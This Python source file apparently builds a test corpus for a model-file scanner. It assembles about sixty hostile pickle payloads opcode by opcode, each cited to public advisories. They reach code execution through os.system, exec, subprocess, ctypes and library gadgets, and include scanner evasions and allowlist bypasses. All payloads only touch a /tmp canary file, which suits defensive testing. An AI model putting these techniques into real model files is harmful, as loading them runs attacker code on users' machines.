"""Hostile raw pickles, one per technique from the public record, each assembled opcode by opcode.

Every payload is a canary: if some loader ever executed it, it would only create
``/tmp/mlwarden-canary-<technique>``. Nothing here is unpickled or called.
"""

from __future__ import annotations

import marshal
from collections.abc import Callable
from dataclasses import dataclass

from corpus.pickle_ops import (
    FALSE,
    NONE,
    POP,
    TRUE,
    b,
    call,
    canary_path,
    canary_python,
    canary_shell,
    dct,
    get,
    glob,
    i,
    lst,
    program,
    program0,
    put,
    s,
    stack_glob,
    tup,
)

PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
FK = "https://github.com/trailofbits/fickling/security/advisories/"
MS = "https://github.com/protectai/modelscan/issues/"


@dataclass(frozen=True)
class PickleCase:
    """One technique: how to build it and where it comes from."""

    technique: str
    source: str
    build: Callable[[str], bytes]
    description: str


def _sys(t: str) -> bytes:
    """os.system(<canary>) as a protocol-4 call."""
    return call(stack_glob("os", "system"), s(canary_shell(t)))


# --- direct sinks ------------------------------------------------------------------------------------------------
def os_system_proto0(t: str) -> bytes:
    return program0(glob("os", "system") + b"(S'" + canary_shell(t).encode() + b"'\ntR")


def posix_system_stack_global(t: str) -> bytes:
    return program(call(stack_glob("posix", "system"), s(canary_shell(t))))


def builtins_exec_proto2(t: str) -> bytes:
    return program(call(glob("builtins", "exec"), s(canary_python(t))), protocol=2)


def builtin_eval_py2_name(t: str) -> bytes:
    return program0(glob("__builtin__", "eval") + b"(V" + canary_python(t).encode() + b"\ntR")


def subprocess_popen_list(t: str) -> bytes:
    return program(call(stack_glob("subprocess", "Popen"), lst(s("touch"), s(canary_path(t)))))


def inst_opcode(t: str) -> bytes:
    return program0(b"(S'" + canary_shell(t).encode() + b"'\nios\nsystem\n")


def obj_opcode(t: str) -> bytes:
    return program(b"(" + glob("os", "system") + s(canary_shell(t)) + b"o", protocol=1)


# --- stdlib gadgets from picklescan / fickling / modelscan advisories -----------------------------------------
def pip_main_log(t: str) -> bytes:
    return program(call(stack_glob("pip", "main"), lst(s("--version"), s("--log"), s(canary_path(t)))))


def asyncio_submodule_subprocess(t: str) -> bytes:
    inner = call(stack_glob("asyncio.subprocess", "create_subprocess_shell"), s(canary_shell(t)))
    return program(call(stack_glob("asyncio.runners", "run"), inner))


def pydoc_pipepager(t: str) -> bytes:
    return program(call(stack_glob("pydoc", "pipepager"), s("x"), s(canary_shell(t))))


def timeit_setup_exec(t: str) -> bytes:
    return program(call(stack_glob("timeit", "timeit"), s("pass"), s(canary_python(t))))


def idlelib_autocomplete_get_entity(t: str) -> bytes:
    inst = call(stack_glob("idlelib.autocomplete", "AutoComplete"))
    code = f"__import__('os').system({canary_shell(t)!r})"
    return program(call(stack_glob("idlelib.autocomplete", "AutoComplete.get_entity"), inst, s(code)))


def lib2to3_grammar_loads_nested(t: str) -> bytes:
    inner = program(_sys(t))
    inst = call(stack_glob("lib2to3.pgen2.grammar", "Grammar"))
    return program(call(stack_glob("lib2to3.pgen2.grammar", "Grammar.loads"), inst, b(inner)))


def ensurepip_run_pip(t: str) -> bytes:
    return program(call(stack_glob("ensurepip", "_run_pip"), lst(s("--version"), s("--log"), s(canary_path(t)))))


def distutils_write_file(t: str) -> bytes:
    return program(call(stack_glob("distutils.file_util", "write_file"), s(canary_path(t)), lst(s("x"))))


def torch_bottleneck_run_autograd_prof(t: str) -> bytes:
    fn = stack_glob("torch.utils.bottleneck.__main__", "run_autograd_prof")
    return program(call(fn, s(canary_python(t)), dct()))


def numpy_f2py_getlincoef(t: str) -> bytes:
    code = f"__import__('os').system({canary_shell(t)!r})"
    return program(call(stack_glob("numpy.f2py.crackfortran", "getlincoef"), s(code), lst()))


def cprofile_run(t: str) -> bytes:
    return program(call(stack_glob("cProfile", "run"), s(canary_python(t))))


def profile_runctx_dotted(t: str) -> bytes:
    inst = call(stack_glob("profile", "Profile"))
    return program(call(stack_glob("profile", "Profile.runctx"), inst, s(canary_python(t)), dct(), dct()))


def trace_run_dotted(t: str) -> bytes:
    inst = call(stack_glob("trace", "Trace"), i(0), i(0))
    return program(call(stack_glob("trace", "Trace.run"), inst, s(canary_python(t))))


def bdb_run_dotted(t: str) -> bytes:
    inst = call(stack_glob("bdb", "Bdb"))
    return program(call(stack_glob("bdb", "Bdb.run"), inst, s(canary_python(t))))


def code_interactive_interpreter(t: str) -> bytes:
    inst = call(stack_glob("code", "InteractiveInterpreter"))
    return program(call(stack_glob("code", "InteractiveInterpreter.runsource"), inst, s(canary_python(t))))


def doctest_debug_script(t: str) -> bytes:
    return program(call(stack_glob("doctest", "debug_script"), s(canary_python(t)), FALSE))


def ctypes_cdll_system(t: str) -> bytes:
    lib = call(stack_glob("ctypes", "CDLL"), NONE)
    fn = call(stack_glob("builtins", "getattr"), lib, s("system"))
    return program(call(fn, b(canary_shell(t).encode())))


def operator_methodcaller_import_module(t: str) -> bytes:
    caller = call(stack_glob("_operator", "methodcaller"), s("system"), s(canary_shell(t)))
    module = call(stack_glob("importlib", "import_module"), s("os"))
    return program(call(caller, module))


def torch_dotted_os_system(t: str) -> bytes:
    return program(call(stack_glob("torch", "os.system"), s(canary_shell(t))))


def uuid_get_command_stdout(t: str) -> bytes:
    return program(call(stack_glob("uuid", "_get_command_stdout"), s("touch"), s(canary_path(t))))


def imaplib_imap4_stream(t: str) -> bytes:
    return program(call(stack_glob("imaplib", "IMAP4_stream"), s(canary_shell(t))))


def osx_support_read_output(t: str) -> bytes:
    return program(call(stack_glob("_osx_support", "_read_output"), s(canary_shell(t))))


def mailcap_findmatch(t: str) -> bytes:
    entry = dct((s("view"), s("true")), (s("test"), s(canary_shell(t))))
    caps = dct((s("text/plain"), lst(entry)))
    return program(call(stack_glob("mailcap", "findmatch"), caps, s("text/plain")))


def pty_spawn(t: str) -> bytes:
    return program(call(stack_glob("pty", "spawn"), lst(s("touch"), s(canary_path(t)))))


def posixsubprocess_fork_exec(t: str) -> bytes:
    argv = lst(b(b"/usr/bin/touch"), b(canary_path(t).encode()))
    neg = i(-1)
    args = [argv, lst(b(b"/usr/bin/touch")), TRUE, tup(), NONE, NONE, *([neg] * 6), i(3), i(4)]
    args += [TRUE, FALSE, neg, NONE, NONE, NONE, neg, NONE]
    return program(call(stack_glob("_posixsubprocess", "fork_exec"), *args))


def xxsubinterpreters_run_string(t: str) -> bytes:
    interp = call(stack_glob("_xxsubinterpreters", "create"))
    return program(call(stack_glob("_xxsubinterpreters", "run_string"), interp, s(canary_python(t))))


def atexit_register_system(t: str) -> bytes:
    return program(call(stack_glob("atexit", "register"), stack_glob("os", "system"), s(canary_shell(t))))


def functools_partial_wrapper(t: str) -> bytes:
    wrapped = call(stack_glob("functools", "partial"), stack_glob("posix", "system"), s(canary_shell(t)))
    return program(call(wrapped))


def shutil_copyfile(t: str) -> bytes:
    return program(call(stack_glob("shutil", "copyfile"), s("/etc/hostname"), s(canary_path(t))))


def builtins_open_write(t: str) -> bytes:
    return program(call(stack_glob("builtins", "open"), s(canary_path(t)), s("w")))


def io_fileio_write(t: str) -> bytes:
    return program(call(stack_glob("_io", "FileIO"), s(canary_path(t)), s("w")))


def urllib_urlretrieve(t: str) -> bytes:
    fn = stack_glob("urllib.request", "urlretrieve")
    return program(call(fn, s("file:///etc/hostname"), s(canary_path(t))))


def venv_create(t: str) -> bytes:
    return program(call(stack_glob("venv", "create"), s(canary_path(t))))


def pkgutil_resolve_name(t: str) -> bytes:
    fn = call(stack_glob("pkgutil", "resolve_name"), s("os:system"))
    return program(call(fn, s(canary_shell(t))))


def marshal_function_type(t: str) -> bytes:
    code = marshal.dumps(compile(canary_python(t), "<model>", "exec"))
    fn = call(stack_glob("types", "FunctionType"), call(stack_glob("marshal", "loads"), b(code)), dct())
    return program(call(fn))


def nested_pickle_loads_codecs(t: str) -> bytes:
    inner = program(_sys(t)).decode("latin1")
    data = call(stack_glob("_codecs", "encode"), s(inner), s("latin1"))
    return program(call(stack_glob("pickle", "loads"), data))


def importlib_getattr_strjoin(t: str) -> bytes:
    getattr_ = stack_glob("builtins", "getattr")
    join = call(getattr_, s(""), s("join"))
    module = call(stack_glob("importlib", "import_module"), call(join, lst(s("o"), s("s"))))
    name = call(get(0), lst(s("sys"), s("tem")))
    body = join + put(0) + POP + call(getattr_, module, name)
    return program(call(body, s(canary_shell(t))))


def builtins_dict_get_module_builtins(t: str) -> bytes:
    exec_ = call(stack_glob("collections", "OrderedDict.get"), stack_glob("torch", "__builtins__"), s("exec"))
    return program(call(exec_, s(canary_python(t))))


def builtins_import_getattr(t: str) -> bytes:
    module = call(stack_glob("builtins", "__import__"), s("os"))
    return program(call(call(stack_glob("builtins", "getattr"), module, s("system")), s(canary_shell(t))))


def py2_compat_commands(t: str) -> bytes:
    return program(call(glob("commands", "getoutput"), s(canary_shell(t))), protocol=2)


# --- opcode-level evasions ---------------------------------------------------------------------------------------
def stack_global_via_memo(t: str) -> bytes:
    body = s("os") + put(1) + POP + s("innocuous") + POP + s("system") + put(2) + POP
    body += s("collections") + s("OrderedDict") + b"\x93" + POP
    body += get(1) + get(2) + b"\x93"
    return program(call(body, s(canary_shell(t))))


def build_setattr_stack_global(t: str) -> bytes:
    target = stack_glob("torch._utils", "_rebuild_tensor_v2")
    state = tup(NONE, dct((s("m"), s("posix")), (s("n"), s("system"))))
    body = target + state + b"b" + POP
    body += stack_glob("torch._utils", "_rebuild_tensor_v2.m") + stack_glob("torch._utils", "_rebuild_tensor_v2.n")
    return program(call(body + b"\x93", s(canary_shell(t))))


def copyreg_ext_opcode(t: str) -> bytes:
    code = 0xA7
    register = call(stack_glob("copyreg", "add_extension"), s("posix"), s("system"), i(code)) + POP
    return program(register + b"\x82" + bytes([code]) + tup(s(canary_shell(t))) + b"R")


def result_stored_in_dict(t: str) -> bytes:
    return program(dct((s("weights"), lst()), (s("meta"), _sys(t))))


def broken_pickle_after_payload(t: str) -> bytes:
    return program(_sys(t) + POP + dct() + b"\xff\xfe", protocol=2)[:-1]


def second_stacked_pickle(t: str) -> bytes:
    first = program(dct((s("format"), s("checkpoint")), (s("step"), i(1000))), protocol=2)
    return first + program(_sys(t), protocol=2)


# --- allowlist audit, round 2: only allowlisted globals, the gadget is in the library code -------------------
def _memmap_args(t: str) -> bytes:
    """(filename, dtype, mode, offset, shape): numpy.memmap creates the canary file (mode w+)."""
    return tup(s(canary_path(t)), s("uint8"), s("w+"), i(0), tup(i(1)))


def module_forward_memmap(t: str) -> bytes:
    # nn.Identity built by NEWOBJ; Module.__setstate__ updates __dict__ so "forward" is numpy.memmap, and
    # calling the instance runs self.forward(*args) (torch/nn/modules/module.py _call_impl).
    module = (
        stack_glob("torch.nn.modules.linear", "Identity")
        + b")\x81"
        + dct((s("forward"), stack_glob("numpy", "memmap")))
        + b"b"
    )
    return program(module + _memmap_args(t) + b"R")


def sklearn_parallel_memmap(t: str) -> bytes:
    # sklearn.pipeline re-exports sklearn.utils.parallel.Parallel; Parallel()([(func, args, kwargs)]) calls func.
    item = tup(
        stack_glob("numpy", "memmap"), tup(s(canary_path(t))), dct((s("mode"), s("w+")), (s("shape"), tup(i(1))))
    )
    return program(call(stack_glob("sklearn.pipeline", "Parallel")) + tup(lst(item)) + b"R")


def rebuild_device_tensor_data_to(t: str) -> bytes:
    # torch._utils._rebuild_device_tensor_from_cpu_tensor(data, ...) calls data.to(dtype=..., device=...): an
    # argparse.Namespace whose BUILD state sets "to" makes torch call what the pickle chose.
    data = call(stack_glob("argparse", "Namespace")) + dct((s("to"), stack_glob("numpy", "memmap"))) + b"b"
    helper = stack_glob("torch._utils", "_rebuild_device_tensor_from_cpu_tensor")
    return program(call(helper, data, s("uint8"), s(canary_path(t)), FALSE))


def joblib_ndarraywrapper_path(t: str) -> bytes:
    # joblib.load: NDArrayWrapper.read runs np.load(os.path.join(dir, filename), allow_pickle=True).
    wrapper = call(
        glob("copy_reg", "_reconstructor"),
        glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
        glob("__builtin__", "object"),
        NONE,
    )
    state = dct((s("filename"), s(canary_path(t) + ".pkl")), (s("subclass"), glob("numpy", "ndarray")))
    return program(wrapper + state + b"b", protocol=2)


CASES: tuple[PickleCase, ...] = (
    PickleCase(
        "os_system_proto0",
        "https://docs.python.org/3/library/pickle.html#restricting-globals",
        os_system_proto0,
        "GLOBAL os.system + REDUCE, protocol 0 text form",
    ),
    PickleCase(
        "posix_system_stack_global",
        "https://github.com/trailofbits/fickling (README: posix.system)",
        posix_system_stack_global,
        "STACK_GLOBAL posix.system (the real module name of os.system)",
    ),
    PickleCase(
        "builtins_exec_proto2",
        "https://docs.python.org/3/library/pickle.html#restricting-globals",
        builtins_exec_proto2,
        "builtins.exec of source text",
    ),
    PickleCase(
        "builtin_eval_py2_name",
        "https://docs.python.org/3/library/pickle.html (fix_imports __builtin__)",
        builtin_eval_py2_name,
        "__builtin__.eval, the Python 2 module name remapped at load time",
    ),
    PickleCase("subprocess_popen_list", MS + "267", subprocess_popen_list, "subprocess.Popen with an argv list"),
    PickleCase(
        "inst_opcode",
        "https://docs.python.org/3/library/pickletools.html (INST)",
        inst_opcode,
        "INST opcode names and calls os.system without GLOBAL/REDUCE",
    ),
    PickleCase(
        "obj_opcode",
        "https://docs.python.org/3/library/pickletools.html (OBJ)",
        obj_opcode,
        "OBJ opcode calls the global with the marked arguments",
    ),
    PickleCase(
        "pip_main_log",
        "https://osv.dev/vulnerability/CVE-2025-1716",
        pip_main_log,
        "pip.main (CVE-2025-1716): canary via --log",
    ),
    PickleCase(
        "asyncio_submodule_subprocess",
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
        asyncio_submodule_subprocess,
        "CVE-2025-10157: dangerous callables in submodules of a blocked package",
    ),
    PickleCase("pydoc_pipepager", PS + "GHSA-hgrh-qx5j-jfwx", pydoc_pipepager, "pydoc.pipepager runs a shell cmd"),
    PickleCase("timeit_setup_exec", PS + "GHSA-v7x6-rv5q-mhwc", timeit_setup_exec, "timeit.timeit compiles setup"),
    PickleCase(
        "idlelib_autocomplete_get_entity",
        PS + "GHSA-6w4w-5w54-rjvr",
        idlelib_autocomplete_get_entity,
        "idlelib AutoComplete.get_entity evals its argument",
    ),
    PickleCase(
        "lib2to3_grammar_loads_nested",
        PS + "GHSA-f54q-57x4-jg88",
        lib2to3_grammar_loads_nested,
        "lib2to3 Grammar.loads unpickles nested bytes",
    ),
    PickleCase("ensurepip_run_pip", PS + "GHSA-xp4f-hrf8-rxw7", ensurepip_run_pip, "ensurepip._run_pip"),
    PickleCase(
        "distutils_write_file",
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
        distutils_write_file,
        "distutils.file_util.write_file writes an arbitrary file",
    ),
    PickleCase(
        "torch_bottleneck_run_autograd_prof",
        PS + "GHSA-4whj-rm5r-c2v8",
        torch_bottleneck_run_autograd_prof,
        "torch.utils.bottleneck.__main__.run_autograd_prof execs code",
    ),
    PickleCase(
        "numpy_f2py_getlincoef",
        "https://github.com/trailofbits/fickling/pull/210",
        numpy_f2py_getlincoef,
        "numpy.f2py.crackfortran.getlincoef evals an expression",
    ),
    PickleCase("cprofile_run", PS + "GHSA-9w88-8rmg-7g2p", cprofile_run, "cProfile.run execs a statement"),
    PickleCase(
        "profile_runctx_dotted",
        PS + "GHSA-6vqj-c2q5-j97w",
        profile_runctx_dotted,
        "profile.Profile.runctx via a dotted STACK_GLOBAL name",
    ),
    PickleCase("trace_run_dotted", PS + "GHSA-5qwp-399c-mjwf", trace_run_dotted, "trace.Trace.run (dotted name)"),
    PickleCase("bdb_run_dotted", PS + "GHSA-4675-36f9-wf6r", bdb_run_dotted, "bdb.Bdb.run (debugger runs code)"),
    PickleCase(
        "code_interactive_interpreter",
        "https://github.com/mmaitre314/picklescan/pull/48",
        code_interactive_interpreter,
        "code.InteractiveInterpreter.runsource",
    ),
    PickleCase("doctest_debug_script", PS + "GHSA-fqq6-7vqf-w3fg", doctest_debug_script, "doctest.debug_script"),
    PickleCase(
        "ctypes_cdll_system",
        "https://github.com/trailofbits/fickling/pull/215",
        ctypes_cdll_system,
        "ctypes.CDLL(None) + builtins.getattr -> libc system",
    ),
    PickleCase(
        "operator_methodcaller_import_module",
        PS + "GHSA-955r-x9j8-7rhh",
        operator_methodcaller_import_module,
        "_operator.methodcaller('system') on import_module('os')",
    ),
    PickleCase(
        "torch_dotted_os_system",
        MS + "89",
        torch_dotted_os_system,
        "allowlisted module + dotted attribute path: torch -> os.system",
    ),
    PickleCase(
        "uuid_get_command_stdout",
        "https://aithreatalert.com/cve/CVE-2026-56315",
        uuid_get_command_stdout,
        "uuid._get_command_stdout runs a command (CVE-2026-56315)",
    ),
    PickleCase(
        "imaplib_imap4_stream",
        "https://aithreatalert.com/cve/CVE-2026-56315",
        imaplib_imap4_stream,
        "imaplib.IMAP4_stream spawns a shell command",
    ),
    PickleCase(
        "osx_support_read_output",
        FK + "GHSA-5hwf-rc88-82xm",
        osx_support_read_output,
        "_osx_support._read_output calls os.system",
    ),
    PickleCase(
        "mailcap_findmatch",
        "https://github.com/protectai/modelscan/pull/346",
        mailcap_findmatch,
        "mailcap.findmatch runs the entry's test command",
    ),
    PickleCase("pty_spawn", FK + "GHSA-r7v6-mfhq-g3m2", pty_spawn, "pty.spawn"),
    PickleCase(
        "posixsubprocess_fork_exec",
        FK + "GHSA-m6fh-58r7-x697",
        posixsubprocess_fork_exec,
        "_posixsubprocess.fork_exec, the primitive under subprocess",
    ),
    PickleCase(
        "xxsubinterpreters_run_string",
        FK + "GHSA-6ggj-6f2q-f7mx",
        xxsubinterpreters_run_string,
        "_xxsubinterpreters.run_string runs source in a subinterpreter",
    ),
    PickleCase(
        "atexit_register_system",
        FK + "GHSA-m6fh-58r7-x697",
        atexit_register_system,
        "atexit.register defers the call to interpreter exit",
    ),
    PickleCase(
        "functools_partial_wrapper",
        "https://github.com/trailofbits/fickling/pull/210",
        functools_partial_wrapper,
        "functools.partial wraps the sink, then the partial is called",
    ),
    PickleCase(
        "shutil_copyfile",
        "https://github.com/protectai/modelscan/pull/198",
        shutil_copyfile,
        "shutil.copyfile writes attacker-chosen files",
    ),
    PickleCase(
        "builtins_open_write",
        "https://github.com/trailofbits/fickling/pull/217",
        builtins_open_write,
        "builtins.open in write mode",
    ),
    PickleCase(
        "io_fileio_write",
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
        io_fileio_write,
        "_io.FileIO opens a file for writing",
    ),
    PickleCase(
        "urllib_urlretrieve",
        PS + "GHSA-hgrh-qx5j-jfwx",
        urllib_urlretrieve,
        "urllib.request.urlretrieve fetches and writes a file",
    ),
    PickleCase("venv_create", PS + "GHSA-vqmv-47xg-9wpr", venv_create, "venv.create (package manipulation)"),
    PickleCase(
        "pkgutil_resolve_name",
        PS + "GHSA-vvpj-8cmc-gx39",
        pkgutil_resolve_name,
        "pkgutil.resolve_name('os:system') resolves any callable from a string",
    ),
    PickleCase(
        "marshal_function_type",
        "https://github.com/mmaitre314/picklescan/pull/74",
        marshal_function_type,
        "marshal.loads code object wrapped by types.FunctionType and called",
    ),
    PickleCase(
        "nested_pickle_loads_codecs",
        MS + "267",
        nested_pickle_loads_codecs,
        "pickle.loads of a payload rebuilt by _codecs.encode",
    ),
    PickleCase(
        "importlib_getattr_strjoin",
        MS + "331",
        importlib_getattr_strjoin,
        "importlib + getattr, names assembled at load time with str.join",
    ),
    PickleCase(
        "builtins_dict_get_module_builtins",
        MS + "330",
        builtins_dict_get_module_builtins,
        "dict.get on a module's __builtins__ fetches exec without naming it as a global",
    ),
    PickleCase(
        "builtins_import_getattr",
        "https://github.com/trailofbits/fickling/security/advisories/GHSA-h4rm-mm56-xf63",
        builtins_import_getattr,
        "builtins.__import__('os') then builtins.getattr(..., 'system')",
    ),
    PickleCase(
        "py2_compat_commands",
        "https://github.com/python/cpython/blob/main/Lib/_compat_pickle.py",
        py2_compat_commands,
        "protocol-2 GLOBAL commands.getoutput, remapped to subprocess.getoutput by fix_imports",
    ),
    PickleCase(
        "stack_global_via_memo",
        "https://github.com/mmaitre314/picklescan/issues/22",
        stack_global_via_memo,
        "STACK_GLOBAL arguments come from the memo, not the preceding opcodes",
    ),
    PickleCase(
        "build_setattr_stack_global",
        MS + "85",
        build_setattr_stack_global,
        "BUILD stores names as attributes of an allowed function; GLOBAL reads them back for STACK_GLOBAL",
    ),
    PickleCase(
        "copyreg_ext_opcode",
        "https://peps.python.org/pep-0307/",
        copyreg_ext_opcode,
        "copyreg.add_extension registers posix.system, EXT1 fetches it by code",
    ),
    PickleCase(
        "result_stored_in_dict",
        "https://github.com/trailofbits/fickling/pull/302",
        result_stored_in_dict,
        "call result kept inside the returned dict so it is not an unused variable",
    ),
    PickleCase(
        "broken_pickle_after_payload",
        "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
        broken_pickle_after_payload,
        "nullifAI: payload runs, then the stream breaks before STOP",
    ),
    PickleCase(
        "second_stacked_pickle",
        "https://github.com/mmaitre314/picklescan/pull/9",
        second_stacked_pickle,
        "a benign pickle followed by a hostile one in the same file",
    ),
    PickleCase(
        "module_forward_memmap",
        "https://github.com/pytorch/pytorch/blob/v2.13.0/torch/nn/modules/module.py",
        module_forward_memmap,
        "allowlisted nn.Module with a BUILD-smuggled forward, then the instance is called (Module._call_impl)",
    ),
    PickleCase(
        "sklearn_parallel_memmap",
        "https://github.com/scikit-learn/scikit-learn/blob/1.9.1/sklearn/utils/parallel.py",
        sklearn_parallel_memmap,
        "Parallel re-exported into sklearn.pipeline matched the estimator-class pattern; it calls its items",
    ),
    PickleCase(
        "rebuild_device_tensor_data_to",
        "https://github.com/pytorch/pytorch/blob/v2.13.0/torch/_utils.py",
        rebuild_device_tensor_data_to,
        "_rebuild_device_tensor_from_cpu_tensor calls data.to(...): the pickle sets 'to' on a Namespace",
    ),
    PickleCase(
        "joblib_ndarraywrapper_path",
        "https://github.com/joblib/joblib/blob/1.6.0/joblib/numpy_pickle_compat.py",
        joblib_ndarraywrapper_path,
        "legacy NDArrayWrapper: joblib.load runs numpy.load(<path from the pickle>, allow_pickle=True)",
    ),
)
